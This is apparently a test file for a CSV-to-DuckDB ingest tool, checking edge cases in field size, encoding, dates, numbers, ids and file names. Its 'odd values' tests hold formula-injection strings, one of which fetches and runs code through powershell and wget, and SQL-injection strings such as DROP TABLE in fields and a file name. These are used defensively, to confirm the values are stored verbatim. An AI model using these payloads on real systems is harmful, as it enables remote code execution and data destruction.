		const fx = await fixture();
		const file = path.join(fx.dir, 'field_120mb.csv');
		writeRepeated(
			file,
			`${TICKETS_MIN},fault_description\nB1,2026-07-01,install,c1,short\nB2,2026-07-01,repair,c2,"`,
			Buffer.from('x'),
			120 * 1024 * 1024,
			'"\nB3,2026-07-01,install,c3,"a\nb"\nB4,2026-07-01,bogus,c4,after\n'
		);
		const f = only(await fx.ingest(file));
		expect(f.error).toBeUndefined();
		// the row: 'B2,2026-07-01,repair,c2,"' (25 bytes) + 125,829,120 bytes + '"' = 125,829,146 bytes = 120.0 MiB
		expect(f.rejects).toEqual([
			{ line: 3, column: null, value: 'B2,2026-07-01,repair,c2,"' + 'x'.repeat(175), rule: LONG_RULE('120.0') },
			// B3 starts on line 4 and spans two lines
			{ line: 6, column: 'type', value: 'bogus', rule: TYPE_RULE }
		]);
		expect(f).toMatchObject({ rows_read: 4, rows_loaded: 2, rows_rejected: 2 });
		expect(await fx.wh.all(`SELECT ticket_id, fault_description FROM tickets WHERE ingest_id > ${BASE_INGESTS} ORDER BY 1`)).toEqual([
			{ ticket_id: 'B1', fault_description: 'short' },
			{ ticket_id: 'B3', fault_description: 'a\nb' }
		]);
		expect(await storedRejects(fx.wh, file)).toEqual(f.rejects);
		await expectKept(fx, { tickets: 2 });
	});

	it('a 34 MB quoted field of 360,000 lines: rejected at its first line, the rule names its last line; the lines after it stay right', async () => {
		const fx = await fixture();
		const file = path.join(fx.dir, 'field_many_lines.csv');
		const K = 360_000;
		const unit = 'y'.repeat(99) + '\n';
		writeRepeated(
			file,
			`${TICKETS_MIN},fault_description\nM1,2026-07-01,install,c1,short\nM2,2026-07-01,repair,c2,"`,
			Buffer.from(unit),
			K,
			'"\nM3,2026-07-01,install,c3,after\nM4,2026-07-01,bogus,c4,after\n'
		);
		const f = only(await fx.ingest(file));
		expect(f.error).toBeUndefined();
		// 25 + 36,000,000 + 1 bytes = 34.3 MiB; the field's K newlines put its end on line 3 + K, M3 on 4 + K, M4 on 5 + K
		expect(f.rejects).toEqual([
			{
				line: 3,
				column: null,
				value: ('M2,2026-07-01,repair,c2,"' + unit + unit).slice(0, 200),
				rule: `${LONG_RULE('34.3')}; it runs from line 3 to line 360,003 (if it should not, a quote on line 3 is not closed)`
			},
			{ line: 360_005, column: 'type', value: 'bogus', rule: TYPE_RULE }
		]);
		await expectRows1And3Loaded(fx, f, ['M1', 'M3']);
	});

	it('inch marks inside unquoted values (5" pipe … 3" valve) 18 MB apart do not open a quoted field: no row is cut, every row loads', async () => {
		const fx = await fixture();
		const file = path.join(fx.dir, 'inch_marks.csv');
		const N = 300_000;
		// a quote in the middle of an unquoted value is a plain character to DuckDB's reader; were it taken to open a
		// quoted field, the 18 MB up to the next one would look like one row over the 16 MB limit
		await writeRows(file, `${TICKETS_MIN},fault_description`, N + 2, (i) =>
			i === 0
				? 'IN0,2026-07-01,install,c0,5" pipe'
				: i === N + 1
					? `IN${i},2026-07-01,repair,c${i},3" valve`
					: `IN${i},2026-07-01,maintenance,c${i},filter cleaned and checked ${String(i).padStart(8, '0')}`
		);
		expect(fs.statSync(file).size).toBeGreaterThan(18 * 1024 * 1024);
		const f = only(await fx.ingest(file));
		expect(f.error).toBeUndefined();
		expect(f).toMatchObject({ rows_read: N + 2, rows_loaded: N + 2, rows_rejected: 0, rejects: [] });
		expect(
			await fx.wh.all(`SELECT ticket_id, fault_description FROM tickets WHERE ticket_id IN ('IN0', 'IN1', 'IN${N + 1}') ORDER BY 1`)
		).toEqual([
			{ ticket_id: 'IN0', fault_description: '5" pipe' },
			{ ticket_id: 'IN1', fault_description: 'filter cleaned and checked 00000001' },
			{ ticket_id: `IN${N + 1}`, fault_description: '3" valve' }
		]);
		await expectKept(fx, { tickets: N + 2 });
	});

	it('inch marks inside unquoted values do not shift the line numbers of rejects (comma and tab files)', async () => {
		const fx = await fixture();
		const rows = [
			'S1,2026-07-01,install,c1,5" pipe',
			'S2,2026-07-01,bogus,c2,x',
			'S3,2026-07-01,install,c3,ok',
			'S4,2026-07-01,bogus,c4,3" valve',
			'S5,2026-07-01,bogus,c5,y'
		];
		const expected = [
			{ line: 3, column: 'type', value: 'bogus', rule: TYPE_RULE },
			{ line: 5, column: 'type', value: 'bogus', rule: TYPE_RULE },
			{ line: 6, column: 'type', value: 'bogus', rule: TYPE_RULE }
		];
		const comma = only(await fx.ingest(fx.write('inch.csv', [`${TICKETS_MIN},fault_description`, ...rows].join('\n') + '\n')));
		expect(comma.rejects).toEqual(expected);
		const tab = only(
			await fx.ingest(fx.write('inch_tab.csv', [`${TICKETS_MIN},fault_description`, ...rows].join('\n').replace(/,/g, '\t') + '\n'))
		);
		expect(tab.rejects).toEqual(expected);
		expect(await fx.wh.all(`SELECT ticket_id, fault_description FROM tickets WHERE ticket_id IN ('S1', 'S3') ORDER BY 1`)).toEqual([
			{ ticket_id: 'S1', fault_description: '5" pipe' },
			{ ticket_id: 'S3', fault_description: 'ok' }
		]);
	});

	it('a GBK file with a 12 MB field (18 MB once read as UTF-8): the row is rejected with its UTF-8 size; the Chinese rows around it load exact', async () => {
		const fx = await fixture();
		const file = path.join(fx.dir, 'gbk_long.csv');
		const gbk = (s: string) => iconv.encode(s, 'gbk');
		writeRepeated(
			file,
			gbk(`${TICKETS_MIN},city,fault_description\nG1,2026-07-01,维修,客户甲,上海,压缩机异响\nG2,2026-07-01,repair,c2,北京,`),
			gbk('压缩机'),
			2_000_000,
			gbk('\nG3,2026-07-01,安装,客户丙,广州,不制冷\n')
		);
		expect(fs.statSync(file).size).toBeGreaterThan(12_000_000);
		const f = only(await fx.ingest(file));
		expect(f.error).toBeUndefined();
		// as UTF-8: 'G2,2026-07-01,repair,c2,' (24) + '北京,' (7) + 6,000,000 characters × 3 bytes = 18,000,031 bytes = 17.2 MiB
		expect(f).toMatchObject({ encoding: 'gb18030', rows_read: 3, rows_loaded: 2, rows_rejected: 1 });
		expect(f.rejects).toEqual([
			{ line: 3, column: null, value: ('G2,2026-07-01,repair,c2,北京,' + '压缩机'.repeat(100)).slice(0, 200), rule: LONG_RULE('17.2') }
		]);
		expect(
			await fx.wh.all(
				`SELECT ticket_id, type, customer_id, city, fault_description FROM tickets WHERE ingest_id > ${BASE_INGESTS} ORDER BY 1`
			)
		).toEqual([
			{ ticket_id: 'G1', type: 'repair', customer_id: '客户甲', city: '上海', fault_description: '压缩机异响' },
			{ ticket_id: 'G3', type: 'install', customer_id: '客户丙', city: '广州', fault_description: '不制冷' }
		]);
		await expectKept(fx, { tickets: 2 });
	});
});

// ---------------------------------------------------------------- values

describe('odd values', () => {
	it('impossible, zero and future dates in every table: rejected with the right rule; good rows load', async () => {
		const fx = await fixture();
		const tickets = fx.write(
			'tickets.csv',
			[
				/*  1 */ `${TICKETS_MIN},purchase_date,completed_at`,
				/*  2 */ 'D1,2025-02-30,install,c,,',
				/*  3 */ 'D2,0000-00-00,install,c,,',
				/*  4 */ 'D3,2099-01-01,install,c,,',
				/*  5 */ 'D4,2026-07-01,install,c,2025-02-30,',
				/*  6 */ 'D5,2026-07-01,install,c,0000-00-00,',
				/*  7 */ 'D6,2026-07-01,install,c,2099-01-01,',
				/*  8 */ 'D7,2026-07-01,install,c,,2099-01-01 08:00',
				/*  9 */ 'D8,2026-07-01,install,c,2025-02-28,2026-07-02 10:00',
				/* 10 */ 'D9,0000-00-00 00:00:00,install,c,,',
				''
			].join('\n')
		);
		const rework = fx.write(
			'rework.csv',
			[
				'rework_id,original_ticket_id,rework_date',
				'RD1,BASE1,2025-02-30',
				'RD2,BASE1,0000-00-00',
				'RD3,BASE1,2099-01-01',
				'RD4,BASE1,2099年1月1日',
				'RD5,D8,2026-07-06',
				''
			].join('\n')
		);
		const techs = fx.write(
			'technicians.csv',
			['technician_id,hire_date', 'TD1,2025-02-30', 'TD2,0000-00-00', 'TD3,2099/1/1', 'TD4,2024-02-29', ''].join('\n')
		);
		const r = await fx.ingest(tickets, rework, techs);
		expect(r.ok).toBe(true);
		expect(fileResult(r, tickets).rejects).toEqual([
			{ line: 2, column: 'created_at', value: '2025-02-30', rule: DATE_RULE },
			{ line: 3, column: 'created_at', value: '0000-00-00', rule: DATE_RULE },
			{ line: 4, column: 'created_at', value: '2099-01-01', rule: FUTURE_RULE },
			{ line: 5, column: 'purchase_date', value: '2025-02-30', rule: DATE_RULE },
			{ line: 6, column: 'purchase_date', value: '0000-00-00', rule: DATE_RULE },
			{ line: 7, column: 'purchase_date', value: '2099-01-01', rule: FUTURE_RULE },
			{ line: 8, column: 'completed_at', value: '2099-01-01 08:00', rule: FUTURE_RULE },
			{ line: 10, column: 'created_at', value: '0000-00-00 00:00:00', rule: DATE_RULE }
		]);
		expect(fileResult(r, rework).rejects).toEqual([
			{ line: 2, column: 'rework_date', value: '2025-02-30', rule: DATE_RULE },
			{ line: 3, column: 'rework_date', value: '0000-00-00', rule: DATE_RULE },
			{ line: 4, column: 'rework_date', value: '2099-01-01', rule: FUTURE_RULE },
			{ line: 5, column: 'rework_date', value: '2099年1月1日', rule: FUTURE_RULE }
		]);
		expect(fileResult(r, techs).rejects).toEqual([
			{ line: 2, column: 'hire_date', value: '2025-02-30', rule: DATE_RULE },
			{ line: 3, column: 'hire_date', value: '0000-00-00', rule: DATE_RULE },
			{ line: 4, column: 'hire_date', value: '2099/1/1', rule: FUTURE_RULE }
		]);
		expect(await fx.wh.all(`SELECT ticket_id, purchase_date, completed_at FROM tickets WHERE ingest_id > ${BASE_INGESTS}`)).toEqual([
			{ ticket_id: 'D8', purchase_date: '2025-02-28', completed_at: '2026-07-02 10:00:00' }
		]);
		expect(await fx.wh.all(`SELECT rework_id, rework_date FROM rework WHERE ingest_id > ${BASE_INGESTS}`)).toEqual([
			{ rework_id: 'RD5', rework_date: '2026-07-06' }
		]);
		expect(await fx.wh.all(`SELECT technician_id, hire_date FROM technicians WHERE ingest_id > ${BASE_INGESTS}`)).toEqual([
			{ technician_id: 'TD4', hire_date: '2024-02-29' }
		]);
		await expectKept(fx, { tickets: 1, rework: 1, technicians: 1 }, 3);
	});

	it('thousands separators and full-width digits are read as the numbers they are; ambiguous ones are rejected', async () => {
		const fx = await fixture();
		const tickets = fx.write(
			'tickets.csv',
			[
				/* 1 */ `${TICKETS_MIN},labor_fee,parts_fee,distance_km,satisfaction`,
				/* 2 */ `N1,2026-07-01,install,c,${q('1,200')},${q('1,200.50')},１２０,５`,
				/* 3 */ `N2,2026-07-01,install,c,${q('１，２００．５０')},１２.５,${q('12,345,678.9')},４`,
				/* 4 */ `N3,2026-07-01,install,c,${q('1,20')},,,`,
				/* 5 */ `N4,2026-07-01,install,c,${q('1.200,50')},,,`,
				/* 6 */ 'N5,2026-07-01,install,c,,,,４.５',
				/* 7 */ 'N6,2026-07-01,install,c,,,－３,',
				''
			].join('\n')
		);
		// semicolon-delimited (European Excel): 1,200.50 needs no quotes there
		const semi = fx.write(
			'tickets_semicolon.csv',
			'ticket_id;created_at;type;customer_id;labor_fee;parts_fee\nN7;2026-07-01;install;c;1,200.50;1,200\n'
		);
		const parts = fx.write(
			'parts.csv',
			`ticket_id,part_no,quantity,unit_cost\nBASE2,PN1,${q('1,000')},${q('1,200.50')}\nBASE2,PN2,１２,１２０\n`
		);
		const r = await fx.ingest(tickets, semi, parts);
		expect(r.ok).toBe(true);
		expect(fileResult(r, tickets).rejects).toEqual([
			{ line: 4, column: 'labor_fee', value: '1,20', rule: NUMBER_RULE },
			{ line: 5, column: 'labor_fee', value: '1.200,50', rule: NUMBER_RULE },
			{ line: 6, column: 'satisfaction', value: '４.５', rule: 'not a whole number from 1 to 5' },
			{ line: 7, column: 'distance_km', value: '－３', rule: 'must be ≥ 0' }
		]);
		expect(fileResult(r, semi)).toMatchObject({ rows_loaded: 1, rejects: [] });
		expect(fileResult(r, parts)).toMatchObject({ rows_loaded: 2, rejects: [] });
		expect(
			await fx.wh.all(
				`SELECT ticket_id, labor_fee, parts_fee, distance_km, satisfaction FROM tickets WHERE ingest_id > ${BASE_INGESTS} ORDER BY 1`
			)
		).toEqual([
			{ ticket_id: 'N1', labor_fee: 1200, parts_fee: 1200.5, distance_km: 120, satisfaction: 5 },
			{ ticket_id: 'N2', labor_fee: 1200.5, parts_fee: 12.5, distance_km: 12345678.9, satisfaction: 4 },
			{ ticket_id: 'N7', labor_fee: 1200.5, parts_fee: 1200, distance_km: null, satisfaction: null }
		]);
		expect(await fx.wh.all(`SELECT part_no, quantity, unit_cost FROM parts WHERE ticket_id = 'BASE2' ORDER BY 1`)).toEqual([
			{ part_no: 'PN1', quantity: 1000, unit_cost: 1200.5 },
			{ part_no: 'PN2', quantity: 12, unit_cost: 120 }
		]);
		await expectKept(fx, { tickets: 3, parts: 2 }, 3);
	});

	it('ids with blanks around them are trimmed (space, tab, ideographic space, inside quotes too); full-width and NBSP-wrapped ids are kept as written', async () => {
		const fx = await fixture();
		const tickets = fx.write(
			'tickets.csv',
			[
				/*  1 */ `${TICKETS_MIN},city`,
				/*  2 */ '  SP1  ,2026-07-01,install,  c1 ,  上海  ',
				/*  3 */ '\tSP2\t,2026-07-01,install,c2,x',
				/*  4 */ '\u3000SP3\u3000,2026-07-01,install,c3,y',
				/*  5 */ '"  SP4  ",2026-07-01,install,c4,v',
				/*  6 */ 'ＦＷ１,2026-07-01,install,c5,z',
				/*  7 */ 'FW1,2026-07-01,install,c6,w',
				/*  8 */ '\u00a0NB1\u00a0,2026-07-01,install,c7,n',
				/*  9 */ '   ,2026-07-01,install,c8,blank id',
				/* 10 */ 'SP1 ,2026-07-02,repair,c9,same id once trimmed',
				''
			].join('\n')
		);
		const rework = fx.write(
			'rework.csv',
			[
				'rework_id,original_ticket_id,rework_date',
				' RW1 , SP1 ,2026-07-05',
				'RW2,ＳＰ１,2026-07-05',
				'RW3,\u3000BASE1,2026-07-05',
				'RW4,ＦＷ１,2026-07-05',
				''
			].join('\n')
		);
		const r = await fx.ingest(tickets, rework);
		expect(fileResult(r, tickets).rejects).toEqual([
			{ line: 9, column: 'ticket_id', value: null, rule: MISSING },
			{ line: 10, column: 'ticket_id', value: 'SP1', rule: 'duplicate id in this file (first on line 2)' }
		]);
		expect(
			await fx.wh.all(`SELECT ticket_id, customer_id, city FROM tickets WHERE ingest_id > ${BASE_INGESTS} ORDER BY customer_id`)
		).toEqual([
			{ ticket_id: 'SP1', customer_id: 'c1', city: '上海' },
			{ ticket_id: 'SP2', customer_id: 'c2', city: 'x' },
			{ ticket_id: 'SP3', customer_id: 'c3', city: 'y' },
			{ ticket_id: 'SP4', customer_id: 'c4', city: 'v' },
			// full-width letters and digits are not folded to ASCII: ＦＷ１ and FW1 are two tickets
			{ ticket_id: 'ＦＷ１', customer_id: 'c5', city: 'z' },
			{ ticket_id: 'FW1', customer_id: 'c6', city: 'w' },
			// a no-break space (U+00A0) is not trimmed
			{ ticket_id: '\u00a0NB1\u00a0', customer_id: 'c7', city: 'n' }
		]);
		expect(fileResult(r, rework).rejects).toEqual([{ line: 3, column: 'original_ticket_id', value: 'ＳＰ１', rule: NO_TICKET }]);
		expect(await fx.wh.all(`SELECT rework_id, original_ticket_id FROM rework WHERE ingest_id > ${BASE_INGESTS} ORDER BY 1`)).toEqual([
			{ rework_id: 'RW1', original_ticket_id: 'SP1' },
			{ rework_id: 'RW3', original_ticket_id: 'BASE1' },
			{ rework_id: 'RW4', original_ticket_id: 'ＦＷ１' }
		]);
		await expectKept(fx, { tickets: 7, rework: 3 }, 2);
	});

	it('spreadsheet formulas in text fields are stored verbatim as text: not evaluated, not rejected, not altered', async () => {
		const fx = await fixture();
		const F = ['=HYPERLINK("http://x","y")', "+cmd|' /C calc'!A0", '@SUM(1)', '-2+3', '=1+1', "=cmd|'/C powershell IEX(wget 0r.pe/p)'!A0"];
		const tickets = fx.write(
			'tickets.csv',
			[
				'ticket_id,created_at,type,customer_id,region,city,product_model,serial_no,fault_code,fault_description',
				`X1,2026-07-01,install,${F.map(q).join(',')},plain`,
				`${q(F[4])},2026-07-01,repair,c2,${q(F[0])},,,,,${q(F[1])}`,
				''
			].join('\n')
		);
		const rework = fx.write('rework.csv', `rework_id,original_ticket_id,rework_date,reason\nXR1,X1,2026-07-05,${q(F[0])}\n`);
		const parts = fx.write('parts.csv', `ticket_id,part_no,part_name,supplier,quantity\nX1,${q(F[2])},${q(F[1])},${q(F[5])},1\n`);
		const techs = fx.write('technicians.csv', `technician_id,name,hire_date,team\n${q(F[3])},${q(F[0])},2024-01-01,${q(F[2])}\n`);
		const r = await fx.ingest(tickets, rework, parts, techs);
		expect(r.ok).toBe(true);
		expect(r.files.map((f) => [f.table, f.rows_loaded, f.rows_rejected, f.rejects])).toEqual([
			['technicians', 1, 0, []],
			['tickets', 2, 0, []],
			['rework', 1, 0, []],
			['parts', 1, 0, []]
		]);
		expect(
			await fx.wh.all(
				`SELECT ticket_id, customer_id, region, city, product_model, serial_no, fault_code, fault_description FROM tickets WHERE ingest_id > ${BASE_INGESTS} ORDER BY 1`
			)
		).toEqual([
			{
				ticket_id: '=1+1',
				customer_id: 'c2',
				region: F[0],
				city: null,
				product_model: null,
				serial_no: null,
				fault_code: null,
				fault_description: F[1]
			},
			{
				ticket_id: 'X1',
				customer_id: F[0],
				region: F[1],
				city: F[2],
				product_model: F[3],
				serial_no: F[4],
				fault_code: F[5],
				fault_description: 'plain'
			}
		]);
		expect(await fx.wh.all(`SELECT reason FROM rework WHERE rework_id = 'XR1'`)).toEqual([{ reason: F[0] }]);
		expect(await fx.wh.all(`SELECT part_no, part_name, supplier FROM parts WHERE ticket_id = 'X1'`)).toEqual([
			{ part_no: F[2], part_name: F[1], supplier: F[5] }
		]);
		expect(await fx.wh.all(`SELECT technician_id, name, team FROM technicians WHERE ingest_id > ${BASE_INGESTS}`)).toEqual([
			{ technician_id: F[3], name: F[0], team: F[2] }
		]);
		await expectKept(fx, { tickets: 2, rework: 1, parts: 1, technicians: 1 }, 4);
	});

	it('SQL in every text column of every table, in a header and in a file name is stored verbatim; every table still exists with the right counts', async () => {
		const fx = await fixture();
		const E = [`'; DROP TABLE tickets; --`, `Robert'); DROP TABLE rework;--`];
		const textCols = [
			'ticket_id',
			'customer_id',
			'region',
			'city',
			'product_model',
			'serial_no',
			'batch',
			'technician_id',
			'team',
			'fault_code',
			'fault_component',
			'fault_description'
		];
		const tickets = fx.write(
			`x'; DROP TABLE tickets; --.csv`,
			[
				`ticket_id,created_at,type,customer_id,region,city,product_model,serial_no,batch,technician_id,team,fault_code,fault_component,fault_description,${q(E[0])}`,
				...E.map((e, i) => `${q(e)},2026-07-0${i + 1},install,${Array(11).fill(q(e)).join(',')},extra`),
				`SQ3,2026-07-03,${q(E[1])},c3,,,,,,,,,,,x`,
				''
			].join('\n')
		);
		const rework = fx.write(
			'rework.csv',
			[
				'rework_id,original_ticket_id,rework_ticket_id,rework_date,reason',
				...E.map((e) => `${q(e)},${q(e)},${q(e)},2026-07-05,${q(e)}`),
				''
			].join('\n')
		);
		const parts = fx.write(
			'parts.csv',
			['ticket_id,part_no,part_name,supplier,quantity', ...E.map((e) => `${q(e)},${q(e)},${q(e)},${q(e)},1`), ''].join('\n')
		);
		const techs = fx.write(
			'technicians.csv',
			['technician_id,name,hire_date,team', ...E.map((e) => `${q(e)},${q(e)},2024-01-01,${q(e)}`), ''].join('\n')
		);

		const r = await fx.ingest(tickets, rework, parts, techs);
		expect(r.ok).toBe(true);
		const ft = fileResult(r, tickets);
		expect(ft.ignored_columns).toEqual([E[0]]);
		expect(ft.rejects).toEqual([{ line: 4, column: 'type', value: E[1], rule: TYPE_RULE }]);
		expect(r.files.map((f) => [f.table, f.rows_loaded, f.rows_rejected])).toEqual([
			['technicians', 2, 0],
			['tickets', 2, 1],
			['rework', 2, 0],
			['parts', 2, 0]
		]);

		const tables = await tableNames(fx.wh);
		expect(tables).toEqual(Object.keys(fx.before));
		expect(tables).toEqual(expect.arrayContaining(['ingests', 'meta', 'parts', 'rejects', 'rework', 'technicians', 'tickets']));
		for (const [i, e] of E.entries()) {
			const [t] = await fx.wh.all(`SELECT ${textCols.join(', ')}, created_at FROM tickets WHERE ticket_id = $e`, { e });
			expect(t).toEqual({ ...Object.fromEntries(textCols.map((c) => [c, e])), created_at: `2026-07-0${i + 1} 00:00:00` });
			expect(
				await fx.wh.all(`SELECT rework_id, original_ticket_id, rework_ticket_id, reason FROM rework WHERE rework_id = $e`, { e })
			).toEqual([{ rework_id: e, original_ticket_id: e, rework_ticket_id: e, reason: e }]);
			expect(await fx.wh.all(`SELECT ticket_id, part_no, part_name, supplier FROM parts WHERE ticket_id = $e`, { e })).toEqual([
				{ ticket_id: e, part_no: e, part_name: e, supplier: e }
			]);
			expect(await fx.wh.all(`SELECT technician_id, name, team FROM technicians WHERE technician_id = $e`, { e })).toEqual([
				{ technician_id: e, name: e, team: e }
			]);
		}
		expect(await storedRejects(fx.wh, tickets)).toEqual(ft.rejects);
		expect(await fx.wh.all(`SELECT file FROM ingests WHERE table_name = 'tickets' AND ingest_id > ${BASE_INGESTS}`)).toEqual([
			{ file: tickets }
		]);
		await expectKept(fx, { tickets: 2, rework: 2, parts: 2, technicians: 2 }, 4);

		// and once more: the same files change nothing
		const again = await fx.ingest(tickets, rework, parts, techs);
		expect(again.files.map((f) => [f.rows_inserted, f.rows_updated, f.rows_unchanged])).toEqual([
			[0, 0, 2],
			[0, 0, 2],
			[0, 0, 2],
			[0, 0, 2]
		]);
		await expectKept(fx, { tickets: 2, rework: 2, parts: 2, technicians: 2 }, 8);
	});
});

// ---------------------------------------------------------------- file names and paths

describe('file names', () => {
	it('names that look like glob patterns ([1], ?, *) are read as themselves, never as another file in the folder', async () => {
		const fx = await fixture();
		const sub = path.join(fx.dir, 'exports');
		fs.mkdirSync(sub);
		const w = (name: string, body: string | Buffer) => {
			const p = path.join(sub, name);
			fs.writeFileSync(p, body);
			return p;
		};
		// decoys: the names the patterns would match
		w('tickets 1.csv', `${TICKETS_MIN}\nDECOY1,2026-07-01,install,c\n`);
		w('tickets_a.csv', `${TICKETS_MIN}\nDECOY2,2026-07-01,install,c\n`);
		w('tickets-all.csv', `${TICKETS_MIN}\nDECOY3,2026-07-01,install,c\n`);
		const mine = [
			w('tickets [1].csv', `${TICKETS_MIN}\nMINE1,2026-07-01,install,c\n`),
			w('tickets_?.csv', `${TICKETS_MIN}\nMINE2,2026-07-01,install,c\n`),
			w('tickets-*.csv', `${TICKETS_MIN}\nMINE3,2026-07-01,install,c\n`),
			w('工单 [2].csv', iconv.encode(`${TICKETS_MIN},city\nMINE4,2026-07-01,维修,c,上海\n`, 'gbk'))
		];
		const r = await fx.ingest(...mine);
		// which rows came from which named file
		expect(
			await fx.wh.all(
				`SELECT i.file, list(t.ticket_id ORDER BY t.ticket_id) AS ids FROM tickets t JOIN ingests i USING (ingest_id)
         WHERE t.ingest_id > ${BASE_INGESTS} GROUP BY 1 ORDER BY 1`
			)
		).toEqual(
			[
				{ file: mine[0], ids: ['MINE1'] },
				{ file: mine[1], ids: ['MINE2'] },
				{ file: mine[2], ids: ['MINE3'] },
				{ file: mine[3], ids: ['MINE4'] }
			].sort((a, b) => (a.file < b.file ? -1 : 1))
		);
		expect(r.files.map((f) => [path.basename(f.file), f.error, f.rows_read, f.rows_loaded])).toEqual(
			mine.map((m) => [path.basename(m), undefined, 1, 1])
		);
		await expectKept(fx, { tickets: 4 }, 4);
	});
});

const ingestCli = (db: string, ...args: string[]) => runScript('scripts/ingest.ts', ['--db', db, ...args]);

describe('command line: awkward file names and paths', () => {
	const dirs: string[] = [];
	afterAll(() => {
		for (const d of dirs) fs.rmSync(d, { recursive: true, force: true });
	});

	/** a warehouse file holding the baseline load, closed so the CLI can open it */
	async function cliFixture() {
		const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'fl-hostile-cli-'));
		dirs.push(dir);
		const db = path.join(dir, 'wh', 'warehouse.duckdb');
		const wh = await Warehouse.open(db);
		try {
			await loadBaseline(wh, dir);
		} finally {
			wh.close();
		}
		const inspect = async () => {
			const w = await Warehouse.open(db, { readOnly: true });
			try {
				return await dump(w);
			} finally {
				w.close();
			}
		};
		return { dir, db, before: await inspect(), inspect };
	}

	it(`a file named 工单 2026'10".csv (spaces, both quotes, Chinese), given twice (once as ./…): loads once in effect; names printed exactly`, async () => {
		const { dir, db, before, inspect } = await cliFixture();
		const name = `工单 2026'10".csv`;
		const file = path.join(dir, name);
		fs.writeFileSync(file, `${TICKETS_MIN},city\r\nW1,2026-07-01,install,c1,上海\r\nW2,2026-07-01,bogus,c2,x\r\n`);

		const human = ingestCli(db, file);
		expect(human.status, human.stderr).toBe(0);
		expect(human.stderr).not.toMatch(/^\s+at /m);
		expect(human.stdout.split('\n')).toEqual([
			`✓ ${name} → tickets (utf-8): 2 rows read, 1 loaded (1 new, 0 updated, 0 unchanged), 1 rejected`,
			`  read as utf-8 (judged from the bytes; --encoding overrides): 上海`,
			`  ${name}:3 [type] "bogus" — ${TYPE_RULE}`,
			''
		]);
		const once = await inspect();
		expect(once.tickets).toHaveLength(before.tickets.length + 1);
		expect(once.rejects).toHaveLength(before.rejects.length + 1);

		// the same file twice more in one run, once spelled through "./"
		const dotted = `${dir}/./${name}`;
		expect(fs.realpathSync(dotted)).toBe(fs.realpathSync(file));
		const twice = ingestCli(db, '--json', file, dotted);
		expect(twice.status, twice.stderr).toBe(0);
		const out = parseJsonOut(twice);
		expect(out.ok).toBe(true);
		for (const f of out.files) {
			expect(f).toMatchObject({
				table: 'tickets',
				rows_read: 2,
				rows_loaded: 1,
				rows_rejected: 1,
				rows_inserted: 0,
				rows_updated: 0,
				rows_unchanged: 1
			});
			expect(f.rejects).toEqual([{ line: 3, column: 'type', value: 'bogus', rule: TYPE_RULE }]);
		}
		expect(out.files.map((f: FileResult) => f.file)).toEqual([file, dotted]);
		const after = await inspect();
		// the data and the rejects are as after one load: nothing doubled
		for (const t of DATA_TABLES) expect(after[t], t).toEqual(once[t]);
		// (a reloaded file's rejects are filed under its latest ingest and spelling of its path)
		const noId = (rows: Row[]) => rows.map((x) => JSON.stringify({ ...x, ingest_id: 0, file: path.basename(String(x.file)) })).sort();
		expect(noId(after.rejects)).toEqual(noId(once.rejects));
		expect(after.tickets.filter((t) => t.ticket_id === 'W1')).toEqual([
			expect.objectContaining({ ticket_id: 'W1', customer_id: 'c1', city: '上海' })
		]);
	});

	it('a path that does not exist, next to a good file: reported in plain words, the good file still loads, no stack trace', async () => {
		const { dir, db, before, inspect } = await cliFixture();
		const missing = path.join(dir, `工单 "missing" 2026.csv`);
		const good = path.join(dir, 'good tickets.csv');
		fs.writeFileSync(good, `${TICKETS_MIN}\nOK1,2026-07-01,install,c1\n`);
		const r = ingestCli(db, '--json', missing, good);
		expect(r.stderr, 'stderr').not.toMatch(/^\s+at /m);
		expect(r.stderr, 'stderr').not.toMatch(/ENOENT|errno|syscall/);
		expect(r.status).toBe(1);
		const out = parseJsonOut(r);
		expect(out.ok).toBe(false);
		const m = out.files.find((f: FileResult) => f.file === missing);
		expect(m).toMatchObject({ rows_loaded: 0, rejects: [] });
		expectPlainMessage(m.error);
		expect(m.error).toMatch(/no such file|not found|does not exist/i);
		expect(out.files.find((f: FileResult) => f.file === good)).toMatchObject({ rows_loaded: 1, rejects: [] });
		const after = await inspect();
		expect(after.tickets).toHaveLength(before.tickets.length + 1);
	});
});
